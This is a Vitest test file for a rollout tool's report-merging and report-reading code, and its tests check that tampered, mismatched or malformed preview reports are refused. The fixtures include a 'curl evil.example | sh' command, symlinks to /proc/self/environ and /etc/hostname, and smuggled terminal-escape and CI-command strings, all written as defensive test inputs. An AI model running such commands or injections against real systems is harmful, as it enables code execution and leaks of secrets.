import { mkdir, mkdtemp, rm, symlink, truncate, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { previewReport } from "../preview/report.ts";
import { chooseStacks } from "../project/choice.ts";
import { rolloutSchema, type RolloutFile } from "../project/rolloutSchema.ts";
import type { PreviewReport } from "../report/schema.ts";
import { failed, reading, slack, step, update } from "../testing/readings.ts";
import { reachOfAll } from "../testing/reportBuilders.ts";
import { mergedReport, type Whole } from "./merge.ts";
import { outputLines } from "./outputs.ts";
import type { NamedReport } from "./parts.ts";
import { LIMITS, readReports } from "./readReports.ts";

const commit = { commit: "abc", isUncommitted: false };
const rename = [update({}, { name: "New" })];
const removal = [step({ op: "delete", before: slack })];
const reports = (
  stack: string,
  steps = rename,
  more: Partial<Parameters<typeof previewReport>[0]> = {},
): PreviewReport =>
  previewReport({
    ...{ project: "shop", commit, readings: [reading(stack, steps)], settings: new Map() },
    ...more,
  });
const named = (...all: PreviewReport[]): NamedReport[] =>
  all.map((report, index) => ({ file: `${index + 1}.json`, report }));
const file = (waves: unknown[] = [], more: object = {}): RolloutFile =>
  rolloutSchema.parse({ version: 1, waves, ...more });
const whole = (stacks: string[], from = file()): Whole => ({
  ...{ project: "shop", commit, now: "2026-11-26T12:00:00.000Z" },
  waves: from.waves.map(({ name }) => name),
  chosen: chooseStacks(stacks, from, { stacks }),
});

describe("Every stack that was to be previewed", () => {
  it("is in the merged report once, and failed by its name where its job left no report", () => {
    const merged = mergedReport(named(reports("us"), reports("eu", [])), whole(["asia", "eu", "us"]));
    expect(merged.stacks.map(({ stack, status }) => [stack, status])).toEqual([
      ["asia", "failed"],
      ["eu", "unchanged"],
      ["us", "changed"],
    ]);
    expect(merged.stackCounts).toEqual({ failed: 1, violation: 0, changed: 1, unchanged: 1 });
    expect(merged.stacks[0]?.failures[0]?.message).toContain("no report of this stack");
    expect(merged.groups[0]?.unlike).toEqual(["eu"]);
    expect(merged.digest).not.toBe(
      mergedReport(named(reports("us"), reports("eu", [])), whole(["eu", "us"])).digest,
    );
  });

  it("is missing where no report at all is there", () => {
    expect(mergedReport([], whole(["eu", "us"])).stackCounts).toMatchObject({ failed: 2 });
  });

  it.each<[string, NamedReport[], Whole, string]>([
    [
      "in two reports",
      named(reports("us"), reports("us")),
      whole(["us"]),
      'Stack "us" is in 1.json and in 2.json.',
    ],
    [
      "one that nobody asked for",
      named(reports("us")),
      whole(["eu"]),
      '1.json has stack "us", which was not asked for.',
    ],
    [
      "of another commit",
      named(reports("us", rename, { commit: { commit: "def", isUncommitted: false } })),
      whole(["us"]),
      "1.json is of commit def, and here is commit abc.",
    ],
    ["of no commit", named(reports("us", rename, { commit: {} })), whole(["us"]), "1.json is of no commit"],
    [
      "of another project",
      named(reports("us", rename, { project: "other" })),
      whole(["us"]),
      "1.json is of project other, and this is shop.",
    ],
    [
      "of other files than the commit's",
      named(reports("eu"), reports("us", rename, { commit: { ...commit, isUncommitted: true } })),
      whole(["eu", "us"]),
      "2.json was made of files that differ from the commit",
    ],
    ["of other waves", named(reports("us", rename, { waves: ["all"] })), whole(["us"]), "other waves"],
    [
      "of another wave",
      named(reports("us")),
      whole(["us"], file([{ name: "w", match: "all" }])),
      "another wave",
    ],
  ])("is not merged where it is %s", (_, given, asked, message) => {
    expect(() => mergedReport(given, asked)).toThrow(message);
  });
});

describe("A report that somebody changed", () => {
  const changes: [string, (report: PreviewReport) => void][] = [
    ["a sum", (report) => (report.operations.delete = 1)],
    ["a count of stacks", (report) => (report.stackCounts["changed"] = 0)],
    ["the digest of a stack", (report) => ((report.stacks[0] as { digest: string }).digest = "f".repeat(64))],
    ["the digest", (report) => (report.digest = "sha256:0")],
    ["the command to type", (report) => (report.upCommand = "curl evil.example | sh")],
    ["the stacks of a group", (report) => report.groups[0]?.stacks.push("us")],
    ["a stack that only a group has", (report) => report.groups[0]?.stacks.splice(0, 1, "nobody")],
    ["a change that is hidden", (report) => report.groups.splice(0)],
    ["a status", (report) => ((report.stacks[0] as { status: string }).status = "unchanged")],
    ["a group's identity", (report) => ((report.groups[0] as { key: string }).key = "other")],
    ["the peers", (report) => ((report.groups[0] as { unlike?: string[] }).unlike = ["us"])],
    [
      "values of a stack that is not there",
      (report) => ((report.groups[0]?.changes[0] as { difference: object }).difference = { byStack: {} }),
    ],
  ];
  it.each(changes)("is refused: %s", (_, change) => {
    const report = structuredClone(reports("us"));
    change(report);
    expect(() => mergedReport(named(report), whole(["us"]))).toThrow(
      /1\.json do not fit together|1\.json has/,
    );
  });
});

describe("Files of reports", () => {
  let folder: string;
  beforeEach(async () => {
    folder = await mkdtemp(join(tmpdir(), "rollout-merge-"));
  });
  afterEach(() => rm(folder, { recursive: true, force: true }));
  const write = async (name: string, content: unknown) => {
    await mkdir(join(folder, name, ".."), { recursive: true });
    const text = typeof content === "string" ? content : JSON.stringify(content);
    await writeFile(join(folder, name), text);
    return join(folder, name);
  };

  it("are found in folders of any depth, without empty ones and without others", async () => {
    await write("prismatic-us/report.json", reports("us"));
    await write("prismatic-eu/report.json", "");
    await write("prismatic-eu/log.txt", "{");
    await symlink("/etc/hostname", join(folder, "link.json"));
    const found = await readReports([folder]);
    expect(found.map(({ report }) => report.stacks[0]?.stack)).toEqual(["us"]);
  });

  it.each([
    ["no JSON", "{", "is no JSON"],
    ["another command", { version: 1, command: "drift" }, "is no report of a preview"],
    ["another version", { version: 2, command: "preview" }, "has another version than 1"],
    ["a member too many", { ...reports("us"), more: "secret-value" }, "is not as it must be"],
    ["a wrong type", { ...reports("us"), stacks: "secret-value" }, "stacks is not as it must be"],
    [
      "a character that acts",
      { ...reports("us"), project: "shop\u001b[31m" },
      "characters that no report has",
    ],
    ["one in the name of a member", { ...reports("us"), ["a\u202eb"]: 1 }, "characters that no report has"],
    ["a line of its own", { ...reports("us"), project: "shop\n::error::x" }, "characters that no report has"],
  ])("are refused without their content: %s", async (_, content, message) => {
    const path = await write("report.json", content);
    const error: unknown = await readReports([path]).catch((thrown: unknown) => thrown);
    expect(String(error)).toContain(message);
    expect(String(error)).not.toContain("secret-value");
  });

  it("are refused where they are too large, links, or not there", async () => {
    const path = await write("large.json", "");
    await truncate(path, LIMITS.file + 1);
    await expect(readReports([path])).rejects.toThrow("larger than a report can be");
    await symlink("/proc/self/environ", join(folder, "link.json"));
    await expect(readReports([join(folder, "link.json")])).rejects.toThrow("cannot be read (ELOOP)");
    await expect(readReports([join(folder, "none")])).rejects.toThrow("cannot be read (ENOENT)");
  });
});

describe("Lines for later jobs", () => {
  const waves = [
    { name: "quiet", match: { stacks: ["quiet"] } },
    { name: "asked", match: { stacks: ["asked"] }, gate: { approval: "required" } },
    { name: "removing", match: { stacks: ["removing"] } },
    { name: "redeploy", action: "redeploy", match: "all" },
    { name: "still", match: "rest", gate: { approval: "required" } },
  ];
  const up = file(waves);
  const readings = [
    reading("asked", rename),
    reading("quiet", rename),
    reading("removing", removal),
    failed("still"),
  ].map((each) => ({ ...each, stack: chooseStacks([each.stack.name], up, { all: true })[0] ?? each.stack }));
  const names = waves.filter(({ action }) => action === undefined).map(({ name }) => name);
  const made = (from = readings, customers = 0) =>
    previewReport({
      ...{ project: "shop", commit, readings: from, settings: new Map(), waves: names },
      reached: new Map(
        from.map(({ stack, steps }) => [
          stack.name,
          new Map(
            steps.map(({ urn }) => [
              urn,
              { reach: reachOfAll({ counted: 0 }, { customersWithCredentials: { counted: customers } }) },
            ]),
          ),
        ]),
      ),
    });

  it("tell for each wave that updates whether it changes anything, and whether that needs an approval", () => {
    const report = made();
    expect(outputLines(report, up).trim().split("\n")).toEqual([
      `digest=${report.digest}`,
      "changes=true",
      "wave-1-changes=true",
      "wave-1-approval=false",
      "wave-2-changes=true",
      "wave-2-approval=true",
      "wave-3-changes=true",
      "wave-3-approval=true",
      "wave-4-changes=false",
      "wave-4-approval=false",
    ]);
  });

  it("ask for an approval by the sums of a wave, as up does", () => {
    const both = file([], { autoApprove: { customers: 5 } });
    const of = (customers: number) =>
      outputLines(made([reading("a", rename), reading("b", rename)], customers), both);
    expect(of(2)).toContain("wave-1-approval=false");
    expect(of(3)).toContain("wave-1-approval=true");
  });

  it("count changed outputs as a change, and a violation as none", () => {
    const lines = (more: object) =>
      outputLines(reports("us", [], { readings: [reading("us", [], more)] }), file());
    expect(lines({ changedOutputs: ["name"] })).toContain("changes=true");
    expect(lines({ status: "violation" })).toContain("changes=false");
  });
});
